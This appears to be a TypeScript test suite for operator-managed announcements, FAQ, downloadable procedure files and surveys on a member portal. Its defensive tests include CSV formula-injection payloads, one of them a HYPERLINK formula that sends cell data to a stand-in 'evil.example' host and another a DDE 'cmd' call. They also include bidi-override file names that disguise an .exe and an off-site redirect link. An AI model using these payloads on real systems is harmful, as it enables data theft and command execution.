import { ErrorCodes } from '@sukoyaka/contract';
import { eq } from 'drizzle-orm';
import { auditLogs } from '../src/db/schema';
import { parseCsv } from '../src/platform/csv';
import { createMember, createTestContext, signInAgent, signedInOperator, type Agent, type TestContext } from './helpers';

/*
 * Issue 14, the operator calls of the content area: announcements, FAQ, the procedures page and
 * enquetes, each write audited, each scoped to the operator's associations (editor writes,
 * viewer reads), and what members then see.
 */

let ctx: TestContext;
let memberAgent: Agent;
let associationId: string;
let otherAssociationId: string;
let editor: Agent;
let viewer: Agent;
let editorId: string;
let stranger: Agent;

const auditedEvents = async (operatorId: string) =>
  (await ctx.db.select({ event: auditLogs.event }).from(auditLogs).where(eq(auditLogs.operatorId, operatorId))).map((row) => row.event);

beforeAll(async () => {
  ctx = await createTestContext();
  const member = await createMember(ctx.db);
  associationId = member.associationId;
  otherAssociationId = (await createMember(ctx.db)).associationId;
  memberAgent = await signInAgent(ctx, member);
  ({ id: editorId, agent: editor } = await signedInOperator(ctx, [{ associationId, role: 'editor' }]));
  ({ agent: viewer } = await signedInOperator(ctx, [{ associationId, role: 'viewer' }]));
  ({ agent: stranger } = await signedInOperator(ctx, [{ associationId: otherAssociationId, role: 'editor' }]));
});
afterAll(async () => ctx?.close());

const iso = (offsetMs: number) => new Date(ctx.clock.now().getTime() + offsetMs).toISOString();

describe('announcements by operators', () => {
  const fields = () => ({
    title: '健診のお知らせ',
    category: 'important' as const,
    body: '今年度の健診の受付を開始しました。\n\n詳しくはお問い合わせください。',
    linkPath: '/faq',
    linkLabel: 'よくある質問',
    publishFrom: iso(-60_000),
  });

  it('an editor creates and publishes; the member sees it unread; the write is audited', async () => {
    const created = await editor.operatorPost('createOperatorAnnouncement', { associationId, publish: true, ...fields() });
    expect(created.status).toBe(200);
    expect(created.body).toMatchObject({ title: '健診のお知らせ', state: 'published', readCount: 0 });
    const list = await memberAgent.get('listAnnouncements');
    expect(list.body.items).toEqual([expect.objectContaining({ id: created.body.id, readAt: null, linkPath: '/faq' })]);
    await memberAgent.post('readAnnouncement', { announcementId: created.body.id });
    const operatorList = await viewer.get('listOperatorAnnouncements', { associationId });
    expect(operatorList.body.items[0]).toMatchObject({ id: created.body.id, readCount: 1 });
    expect(await auditedEvents(editorId)).toContain('operator_announcement_created');
  });

  it('a draft stays hidden until published; unpublishing hides it again; twice changes nothing more', async () => {
    const draft = await editor.operatorPost('createOperatorAnnouncement', { associationId, ...fields(), title: '下書きのお知らせ' });
    expect(draft.body.state).toBe('draft');
    const titles = async () => (await memberAgent.get('listAnnouncements')).body.items.map((item: { title: string }) => item.title);
    expect(await titles()).not.toContain('下書きのお知らせ');
    const published = await editor.operatorPost('publishOperatorAnnouncement', {
      associationId,
      announcementId: draft.body.id,
      published: true,
    });
    expect(published.body.state).toBe('published');
    const again = await editor.operatorPost('publishOperatorAnnouncement', {
      associationId,
      announcementId: draft.body.id,
      published: true,
    });
    expect(again.body.publishedAt).toBe(published.body.publishedAt);
    expect(await titles()).toContain('下書きのお知らせ');
    await editor.operatorPost('publishOperatorAnnouncement', { associationId, announcementId: draft.body.id, published: false });
    expect(await titles()).not.toContain('下書きのお知らせ');
    const updated = await editor.operatorPost('updateOperatorAnnouncement', {
      associationId,
      announcementId: draft.body.id,
      ...fields(),
      title: '直したお知らせ',
      publishUntil: iso(3_600_000),
    });
    expect(updated.body).toMatchObject({ title: '直したお知らせ', state: 'draft' });
  });

  it('refuses a link off the site, a window that ends before it starts, a viewer, another association and a member', async () => {
    const offSite = await editor.operatorPost('createOperatorAnnouncement', { associationId, ...fields(), linkPath: '//evil.example/' });
    expect(offSite.status).toBe(400);
    expect(offSite.body.fields.linkPath).toBeDefined();
    const backwards = await editor.operatorPost('createOperatorAnnouncement', {
      associationId,
      ...fields(),
      publishUntil: iso(-3_600_000),
    });
    expect(backwards.status).toBe(400);
    expect(backwards.body.fields.publishUntil).toEqual(['掲載終了日時は掲載開始日時より後にしてください']);
    expect((await viewer.operatorPost('createOperatorAnnouncement', { associationId, ...fields() })).status).toBe(403);
    expect((await stranger.operatorPost('createOperatorAnnouncement', { associationId, ...fields() })).status).toBe(403);
    expect((await stranger.get('listOperatorAnnouncements', { associationId })).status).toBe(403);
    // Another association's announcement, named with the operator's own association: not found.
    const own = (await viewer.get('listOperatorAnnouncements', { associationId })).body.items[0];
    const crossed = await stranger.operatorPost('publishOperatorAnnouncement', {
      associationId: otherAssociationId,
      announcementId: own.id,
      published: false,
    });
    expect(crossed.status).toBe(404);
    // A member's session is never an operator's: the write is refused and nothing is created.
    const before = (await viewer.get('listOperatorAnnouncements', { associationId })).body.items.length;
    const asMember = await memberAgent.post('createOperatorAnnouncement', { associationId, ...fields() });
    expect([401, 403]).toContain(asMember.status);
    expect((await viewer.get('listOperatorAnnouncements', { associationId })).body.items).toHaveLength(before);
    const readAsMember = await memberAgent.get('listOperatorAnnouncements', { associationId });
    expect(readAsMember.status).toBe(401);
    expect(readAsMember.body.code).toBe(ErrorCodes.operatorUnauthenticated);
  });
});

describe('FAQ by operators', () => {
  it('creates a category and questions; a hidden question stays hidden from members', async () => {
    const category = await editor.operatorPost('saveOperatorFaqCategory', { associationId, name: '健診', position: 1 });
    expect(category.status).toBe(200);
    const categoryId = category.body.categories[0].id;
    await editor.operatorPost('saveOperatorFaqQuestion', {
      associationId,
      categoryId,
      question: '健診はいつですか',
      answer: '毎年6月です。',
    });
    await editor.operatorPost('saveOperatorFaqQuestion', {
      associationId,
      categoryId,
      question: '準備中の質問',
      answer: '未公開',
      visible: false,
    });
    const listed = await viewer.get('listOperatorFaq', { associationId });
    expect(listed.body.categories[0].questions).toHaveLength(2);
    const seen = await memberAgent.get('listVisibleFaqCategories');
    expect(seen.body.categories).toEqual([
      expect.objectContaining({ name: '健診', questions: [expect.objectContaining({ question: '健診はいつですか' })] }),
    ]);
    // Another association's operator cannot add to this category through their own association.
    const crossed = await stranger.operatorPost('saveOperatorFaqQuestion', {
      associationId: otherAssociationId,
      categoryId,
      question: '乗っ取り',
      answer: 'だめです',
    });
    expect(crossed.status).toBe(404);
    expect(await auditedEvents(editorId)).toEqual(
      expect.arrayContaining(['operator_faq_category_created', 'operator_faq_question_created']),
    );
  });
});

describe('the procedures page by operators', () => {
  it('a new version is a draft until published; then members see it with its file', async () => {
    expect((await memberAgent.get('getSiteDocument', { kind: 'paperworks' })).status).toBe(404);
    const csv = Buffer.from('項目,記入欄\r\n氏名,\r\n', 'utf8').toString('base64');
    const created = await editor.operatorPost('createOperatorDocumentVersion', {
      associationId,
      title: '各種手続き',
      body: '書類をダウンロードしてください。',
      files: [{ fileName: '住所変更届.csv', contentType: 'text/csv', contentBase64: csv }],
    });
    expect(created.status).toBe(200);
    expect(created.body).toMatchObject({
      version: 1,
      publishedAt: null,
      current: false,
      files: [expect.objectContaining({ fileName: '住所変更届.csv' })],
    });
    expect((await memberAgent.get('getSiteDocument', { kind: 'paperworks' })).status).toBe(404);
    const published = await editor.operatorPost('publishOperatorDocumentVersion', { associationId, documentId: created.body.id });
    expect(published.body).toMatchObject({ current: true });
    const seen = await memberAgent.get('getSiteDocument', { kind: 'paperworks' });
    expect(seen.body).toMatchObject({ version: 1, title: '各種手続き' });
    const download = await memberAgent.request({ method: 'GET', url: seen.body.files[0].url });
    expect(download.status).toBe(200);
    expect(download.body).toContain('氏名');
    const disallowed = await editor.operatorPost('createOperatorDocumentVersion', {
      associationId,
      title: '各種手続き',
      body: '本文',
      files: [{ fileName: 'page.html', contentType: 'text/html', contentBase64: csv }],
    });
    expect(disallowed.status).toBe(400);
  });
});

describe('issue 24 #14: bidi override and isolate controls are refused in document file names', () => {
  it.each(['202E', '202A', '202D', '2066', '2069'])(
    'refuses U+%s in a file name with 400 naming the field, and adds no version',
    async (code) => {
      const control = String.fromCodePoint(parseInt(code, 16));
      const before = (await editor.get('listOperatorDocuments', { associationId })).body.versions.length;
      const answer = await editor.operatorPost('createOperatorDocumentVersion', {
        associationId,
        title: '各種手続き',
        body: '本文',
        files: [
          {
            fileName: `請求書${control}fdp.exe`,
            contentType: 'application/pdf',
            contentBase64: Buffer.from('%PDF-1.4').toString('base64'),
          },
        ],
      });
      expect(answer.status).toBe(400);
      expect(JSON.stringify(answer.body)).toContain('ファイル名に文字の向きを変える制御文字は使えません');
      expect((await editor.get('listOperatorDocuments', { associationId })).body.versions).toHaveLength(before);
    },
  );
});

describe('issue 24 #14: operator-authored CSV reaches members with formulas neutralised', () => {
  const publishCsv = async (content: Buffer) => {
    const created = await editor.operatorPost('createOperatorDocumentVersion', {
      associationId,
      title: '各種手続き',
      body: '書類をダウンロードしてください。',
      files: [{ fileName: '届出.csv', contentType: 'text/csv', contentBase64: content.toString('base64') }],
    });
    expect(created.status).toBe(200);
    await editor.operatorPost('publishOperatorDocumentVersion', { associationId, documentId: created.body.id });
    const seen = await memberAgent.get('getSiteDocument', { kind: 'paperworks' });
    const download = await memberAgent.request({ method: 'GET', url: seen.body.files[0].url });
    expect(download.status).toBe(200);
    return download.body as string;
  };

  it('gives every cell a spreadsheet would run as a formula a leading apostrophe; numbers and text stay', async () => {
    const csv =
      '項目,記入欄\r\n' +
      '=HYPERLINK("http://evil.example/?"&A1;"詳しくはこちら"),@SUM(1+1)\r\n' +
      "+cmd|' /C calc'!A0,-2+3\r\n" +
      '"\tタブ","\rCR"\r\n' +
      '＝1+1,＠SUM(1)\r\n' +
      '-12.5,氏名\r\n';
    const rows = parseCsv(await publishCsv(Buffer.from(csv, 'utf8'))).map((record) => record.fields);
    expect(rows).toEqual([
      ['項目', '記入欄'],
      [`'=HYPERLINK("http://evil.example/?"&A1;"詳しくはこちら")`, "'@SUM(1+1)"],
      ["'+cmd|' /C calc'!A0", "'-2+3"],
      ["'\tタブ", "'\rCR"],
      ["'＝1+1", "'＠SUM(1)"],
      ['-12.5', '氏名'],
    ]);
  });

  it('reads a Shift_JIS file (Excel’s CSV) and hands it out as UTF-8 with a BOM, neutralised', async () => {
    // 「氏名,=1+1」 in Shift_JIS.
    const shiftJis = Buffer.from([0x8e, 0x81, 0x96, 0xbc, 0x2c, 0x3d, 0x31, 0x2b, 0x31, 0x0d, 0x0a]);
    const served = await publishCsv(shiftJis);
    expect(served.startsWith('\ufeff')).toBe(true);
    expect(parseCsv(served).map((record) => record.fields)).toEqual([['氏名', "'=1+1"]]);
  });

  it('refuses a CSV that is neither UTF-8 nor Shift_JIS with 400 naming the files', async () => {
    const answer = await editor.operatorPost('createOperatorDocumentVersion', {
      associationId,
      title: '各種手続き',
      body: '本文',
      files: [{ fileName: '届出.csv', contentType: 'text/csv', contentBase64: Buffer.from([0xff, 0xfe, 0x3d, 0x00]).toString('base64') }],
    });
    expect(answer.status).toBe(400);
    expect(JSON.stringify(answer.body)).toContain('届出.csvの文字コードを読み取れません');
  });
});

describe('enquetes by operators', () => {
  it('create, publish, a member answers, results count it, close refuses later answers', async () => {
    const created = await editor.operatorPost('createOperatorEnquete', {
      associationId,
      title: '運動習慣アンケート',
      questions: [
        { kind: 'single', text: '運動していますか', required: true, choices: ['はい', 'いいえ'] },
        { kind: 'scale', text: '満足度', required: true, scaleMin: 1, scaleMax: 5 },
        { kind: 'text', text: 'ご意見' },
      ],
    });
    expect(created.status).toBe(200);
    expect(created.body).toMatchObject({ state: 'draft', questionCount: 3, responseCount: 0 });
    expect((await memberAgent.get('getEnquete', { enqueteId: created.body.id })).status).toBe(404);
    const published = await editor.operatorPost('publishOperatorEnquete', { associationId, enqueteId: created.body.id });
    expect(published.body.state).toBe('open');
    const enquete = (await memberAgent.get('getEnquete', { enqueteId: created.body.id })).body;
    const answered = await memberAgent.post('answerEnquete', {
      enqueteId: enquete.id,
      answers: [
        { questionId: enquete.questions[0].id, choiceIds: [enquete.questions[0].choices[0].id] },
        { questionId: enquete.questions[1].id, scale: 4 },
        { questionId: enquete.questions[2].id, text: 'もっと歩きたい' },
      ],
    });
    expect(answered.status).toBe(200);
    const results = await viewer.get('getOperatorEnqueteResults', { associationId, enqueteId: created.body.id });
    expect(results.status).toBe(200);
    expect(results.body.enquete.responseCount).toBe(1);
    expect(results.body.questions[0].choices).toEqual([
      expect.objectContaining({ label: 'はい', count: 1 }),
      expect.objectContaining({ label: 'いいえ', count: 0 }),
    ]);
    expect(results.body.questions[1]).toMatchObject({ answered: 1, mean: 4 });
    expect(results.body.questions[1].scale).toContainEqual({ value: 4, count: 1 });
    expect(results.body.questions[2].texts).toEqual([{ text: 'もっと歩きたい', answeredAt: expect.any(String) }]);
    // Who answered is never told.
    expect(JSON.stringify(results.body)).not.toMatch(/userId|email/);
    expect((await stranger.get('getOperatorEnqueteResults', { associationId, enqueteId: created.body.id })).status).toBe(403);
    expect((await memberAgent.get('getOperatorEnqueteResults', { associationId, enqueteId: created.body.id })).status).toBe(401);

    const closed = await editor.operatorPost('closeOperatorEnquete', { associationId, enqueteId: created.body.id });
    expect(closed.body.state).toBe('closed');
    expect((await memberAgent.get('listOpenEnquetes')).body.items).toEqual([]);
    expect(await auditedEvents(editorId)).toEqual(
      expect.arrayContaining(['operator_enquete_created', 'operator_enquete_published', 'operator_enquete_closed']),
    );
  });

  it('refuses a choice question with one choice', async () => {
    const response = await editor.operatorPost('createOperatorEnquete', {
      associationId,
      title: '不完全なアンケート',
      questions: [{ kind: 'multiple', text: '選んでください', choices: ['ひとつだけ'] }],
    });
    expect(response.status).toBe(400);
  });
});
